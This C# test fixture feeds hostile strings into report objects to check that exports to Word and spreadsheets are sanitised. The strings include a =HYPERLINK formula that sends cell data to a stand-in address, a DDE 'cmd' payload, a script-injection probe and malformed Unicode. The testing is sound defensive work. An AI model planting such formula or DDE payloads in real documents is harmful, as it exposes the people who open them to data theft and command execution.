using Nianbao.Text;

namespace Nianbao.Tests.Documents;

/// <summary>Reports whose words mean harm to whoever opens them in Word or a spreadsheet.</summary>
internal static class HostileReport
{
    /// <summary>Not inline data: an attribute is stored as UTF-8 and cannot hold lone surrogates.</summary>
    public static TheoryData<string> Texts { get; } =
    [
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"点击\")", "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(1+1)", "＝1＋1", "＋1", "－1+1", "＠SUM(1)",
        "\t=1+1", "\r=1+1", " =1+1", "\u200B=1+1", "\uFEFF=1+1", "\u202E=1+1", "\u0000\u0001\u000B\uFFFE", "\uD800后", "前\uDC00",
        "<script>alert(1)</script>", "]]><w:p/>&amp;\"'", "一行\n两行\r\n三行\u2028四行\u0085五行", "甲,乙;丙\"丁\"", new string('长', 10_000),
        "\U00020BB7野家", "", " \u3000\t",
    ];

    /// <summary>A report in which these words stand wherever a report's words may stand.</summary>
    public static Report Of(string words)
    {
        var span = new TextSpan(0, words.Length);
        return new Report
        {
            Text = words,
            Office = words,
            Year = 2025,
            Sections = [new Section(SectionKind.Other, span, span)],
            Problems = [new Problem("P1", span, span, span)],
            Indicators =
            [
                new Indicator
                {
                    Span = span,
                    Value = -12.5m,
                    ValueMax = 20,
                    Unit = words,
                    Subject = words,
                    Category = IndicatorCategory.Mediation,
                    Qualifier = Qualifier.About,
                    Kind = IndicatorKind.Target,
                },
            ],
        };
    }

    public static IReadOnlyList<Finding> FindingsOn(string words) =>
    [
        new Finding(words, Severity.Error, words, new TextSpan(0, words.Length)), new Finding("year", Severity.Note, words, default),
    ];
}
